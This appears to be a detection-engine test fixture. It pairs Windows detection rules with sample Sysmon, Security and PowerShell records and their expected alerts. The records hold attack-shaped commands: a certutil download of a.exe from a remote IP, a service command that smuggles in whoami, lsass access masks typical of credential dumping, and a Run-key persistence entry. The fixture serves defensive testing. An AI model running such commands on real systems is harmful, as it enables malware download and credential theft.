# The Windows event kinds (SPEC 15 "Windows events"): registry, library,
# authentication and configuration in `on`, and the Windows fields of
# process events, over real-shaped records in the three layouts (Winlogbeat,
# flat, evtx_dump), told apart without --input-format.  A rule's kinds
# decide which records it sees: the Run-key rule never sees the DLL load.
%%POLICY
rule "run key" {
  on registry
  when registry.hive == "HKLM" and registry.key like "*\\CurrentVersion\\Run\\*"
  message "run key {registry.value} = {registry.data.strings} by {process.name} ({event.action})"
}
rule "unsigned dll" {
  on library
  when dll.code_signature.signed == false or dll.code_signature.status != "Valid"
  message "{process.name} loaded {dll.name} ({dll.code_signature.status})"
}
rule "network logon" {
  on authentication
  when winlog.event_data.LogonType == 3 and event.outcome == "failure"
  message "failed network logon of {user.domain}\\{user.name} from {source.ip}"
}
rule "service" {
  on configuration
  when winlog.event_data.ImagePath contains "cmd.exe /c"
  message "service {service.name} runs {winlog.event_data.ImagePath}"
}
rule "lsass" {
  on process
  when event.code == "10" and winlog.event_data.TargetImage like "C:/Windows/System32/lsass.exe"
       and winlog.event_data.GrantedAccess in ["0x1010", "0x1410"]
  message "{process.name} opened lsass ({winlog.event_data.GrantedAccess})"
}
rule "high integrity certutil" {
  on process
  when process.pe.original_file_name == "CertUtil.exe" and winlog.event_data.IntegrityLevel == "High"
  message "{process.name} ({process.pe.description}) by {winlog.event_data.ParentUser}, logon {winlog.logon.id}"
}
rule "script block" {
  on process
  when powershell.file.script_block_text contains "FromBase64String"
  message "script block {powershell.file.script_block_id} {powershell.sequence}/{powershell.total}"
}
%%EVENTS
{"@timestamp":"2024-03-12T10:02:20.000Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":13,"provider_name":"Microsoft-Windows-Sysmon","computer_name":"winctr-host02","record_id":91020,"event_data":{"RuleName":"T1060,RunKey","EventType":"SetValue","UtcTime":"2024-03-12 10:02:19.991","ProcessGuid":"{9a1b3c5d-0001-0002-0003-000000000abc}","ProcessId":"6120","Image":"C:\\Windows\\System32\\reg.exe","TargetObject":"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater","Details":"C:\\Users\\Public\\a.exe","User":"NT AUTHORITY\\SYSTEM"}}}
{"EventID":7,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WINCTR-HOST03","UtcTime":"2024-03-12 10:05:04.210","ProcessId":"7400","Image":"C:\\Users\\Public\\a.exe","ImageLoaded":"C:\\Users\\Public\\evil.dll","Hashes":"SHA256=AB12,IMPHASH=CD34","Signed":"false","Signature":"-","SignatureStatus":"Unavailable","User":"WINCTR-HOST03\\app"}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing","Guid":"{54849625-5478-4994-A5BA-3E3B0328C30D}"}},"EventID":4625,"Version":0,"Level":0,"Task":12544,"Keywords":"0x8010000000000000","TimeCreated":{"#attributes":{"SystemTime":"2024-03-12T10:06:00.123456Z"}},"EventRecordID":331,"Channel":"Security","Computer":"WINCTR-HOST01"},"EventData":{"SubjectUserSid":"S-1-0-0","SubjectUserName":"-","TargetUserName":"administrator","TargetDomainName":"CORP","Status":"0xc000006d","SubStatus":"0xc000006a","LogonType":3,"LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":"KALI","IpAddress":"203.0.113.66","IpPort":"51000","ProcessId":"0x0","ProcessName":"-"}}}
{"Event":{"System":{"Provider":{"#attributes":{"Name":"Service Control Manager","EventSourceName":"Service Control Manager"}},"EventID":{"#attributes":{"Qualifiers":16384},"#text":7045},"TimeCreated":{"#attributes":{"SystemTime":"2024-03-12T10:07:00.000000Z"}},"EventRecordID":812,"Channel":"System","Computer":"WINCTR-HOST01"},"EventData":{"ServiceName":"updsvc","ImagePath":"%COMSPEC% /Q /c echo cmd.exe /c whoami > \\\\127.0.0.1\\C$\\x","ServiceType":"user mode service","StartType":"demand start","AccountName":"LocalSystem"}}}
{"EventID":10,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WINCTR-HOST03","UtcTime":"2024-03-12 10:05:03.000","SourceProcessGUID":"{9a1b3c5d-0001-0002-0003-000000000def}","SourceProcessId":"7400","SourceThreadId":"7404","SourceImage":"C:\\Users\\Public\\a.exe","TargetProcessId":"632","TargetImage":"C:\\Windows\\system32\\lsass.exe","GrantedAccess":"0x1010","CallTrace":"C:\\Windows\\SYSTEM32\\ntdll.dll+9d204|UNKNOWN(00000000000A1B2C)","SourceUser":"WINCTR-HOST03\\app","TargetUser":"NT AUTHORITY\\SYSTEM"}
{"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1","computer_name":"winctr-host02","event_data":{"UtcTime":"2024-03-12 10:08:00.000","ProcessGuid":"{9a1b3c5d-0001-0002-0003-000000000aaa}","ProcessId":"5100","Image":"C:\\Windows\\System32\\certutil.exe","FileVersion":"10.0.20348.1 (WinBuild.160101.0800)","Description":"CertUtil.exe","Product":"Microsoft® Windows® Operating System","Company":"Microsoft Corporation","OriginalFileName":"CertUtil.exe","CommandLine":"certutil -urlcache -f http://203.0.113.9/a a.exe","CurrentDirectory":"C:\\Users\\Public\\","User":"WINCTR-HOST02\\app","LogonGuid":"{9a1b3c5d-0000-0000-0000-000000000001}","LogonId":"0x3e7","TerminalSessionId":"0","IntegrityLevel":"High","Hashes":"MD5=AA,SHA256=BB,IMPHASH=CC","ParentProcessGuid":"{9a1b3c5d-0001-0002-0003-000000000bbb}","ParentProcessId":"4400","ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"cmd.exe","ParentUser":"NT AUTHORITY\\SYSTEM"}}}
{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-PowerShell"}},"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"WINCTR-HOST01","TimeCreated":{"#attributes":{"SystemTime":"2024-03-12T10:09:00.000000Z"}},"Security":{"#attributes":{"UserID":"S-1-5-21-1-2-3-1001"}}},"EventData":{"MessageNumber":1,"MessageTotal":2,"ScriptBlockText":"$b=[Convert]::FromBase64String('SQBFAFgA')","ScriptBlockId":"8f1c6d2e-aaaa-bbbb-cccc-0123456789ab","Path":""}}}
%%EXPECT
{"line":1,"effect":"alert","matches":[{"rule":"run key","effect":"alert","severity":"medium","message":"run key updater = [C:\\Users\\Public\\a.exe] by reg.exe (modification)"}]}
{"line":2,"effect":"alert","matches":[{"rule":"unsigned dll","effect":"alert","severity":"medium","message":"a.exe loaded evil.dll (Unavailable)"}]}
{"line":3,"effect":"alert","matches":[{"rule":"network logon","effect":"alert","severity":"medium","message":"failed network logon of CORP\\administrator from 203.0.113.66"}]}
{"line":4,"effect":"alert","matches":[{"rule":"service","effect":"alert","severity":"medium","message":"service updsvc runs %COMSPEC% /Q /c echo cmd.exe /c whoami > \\\\127.0.0.1\\C$\\x"}]}
{"line":5,"effect":"alert","matches":[{"rule":"lsass","effect":"alert","severity":"medium","message":"a.exe opened lsass (0x1010)"}]}
{"line":6,"effect":"alert","matches":[{"rule":"high integrity certutil","effect":"alert","severity":"medium","message":"certutil.exe (CertUtil.exe) by NT AUTHORITY\\SYSTEM, logon 0x3e7"}]}
{"line":7,"effect":"alert","matches":[{"rule":"script block","effect":"alert","severity":"medium","message":"script block 8f1c6d2e-aaaa-bbbb-cccc-0123456789ab 1/2"}]}
